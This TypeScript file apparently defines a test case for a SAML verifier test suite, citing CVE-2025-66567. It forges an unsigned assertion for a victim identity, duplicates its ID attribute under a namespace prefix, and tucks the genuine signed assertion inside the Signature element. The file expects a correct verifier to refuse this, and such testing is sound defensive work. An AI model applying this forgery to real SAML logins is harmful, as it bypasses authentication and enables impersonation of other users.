import { defineFault } from '../fault.ts';
import { unsigned } from '../saml/digests.ts';
import { attributeOf, childrenNamed, edited, sibling, withChildren } from '../saml/elements.ts';
import type { XmlElement } from '../saml/xml.ts';

export default defineFault({
  id: 'saml/attribute-pollution',
  stage: 'wire',
  on: 'elements',
  summary:
    'An assertion for the victim has two attributes called ID: its own, and with a prefix that of the genuine assertion, which lies in the signature.',
  source: {
    title: 'Attributes that differ in their prefix alone, read differently by verifier and reader',
    at: 'CVE-2025-66567 (ruby-saml); "The Fragile Lock" (PortSwigger, December 2025)',
    basis: 'issue',
    checked: '2026-11-24',
  },
  expect: 'refuse',
  harm: 'identity',
  grade: 'bypass',
  shapes: ['assertion'],
  needs: ['victim'],
  options: { first: ['with-prefix', 'without-prefix'] },
  // Verifiers that count every attribute of that local name find the ID twice and refuse.
  signature: 'broken',
  apply: (response, { first }, context) =>
    edited(response, 'Response/Assertion', (genuine) => {
      const [signature] = childrenNamed(genuine, 'Signature');
      if (!signature) throw new RangeError('The assertion is not signed.');
      const draft = { ...context.draft, ...context.victim(), assertionId: context.newId() };
      const holding = withChildren(signature, [
        ...signature.children,
        sibling(signature, 'Object', [], [unsigned(genuine)]),
      ]);
      const forged = polluted(context.assertion(draft, { signed: false }), attributeOf(genuine, 'ID') ?? '', first);
      const [issuer, ...rest] = forged.children;
      return withChildren(forged, [...(issuer === undefined ? [] : [issuer]), holding, ...rest]);
    }),
});

function polluted(element: XmlElement, id: string, first: 'with-prefix' | 'without-prefix'): XmlElement {
  const further = [
    ['xmlns:x', 'urn:x'],
    ['x:ID', id],
  ] as const;
  const { attributes } = element;
  return {
    ...element,
    attributes: first === 'with-prefix' ? [...further, ...attributes] : [...attributes, ...further],
  };
}
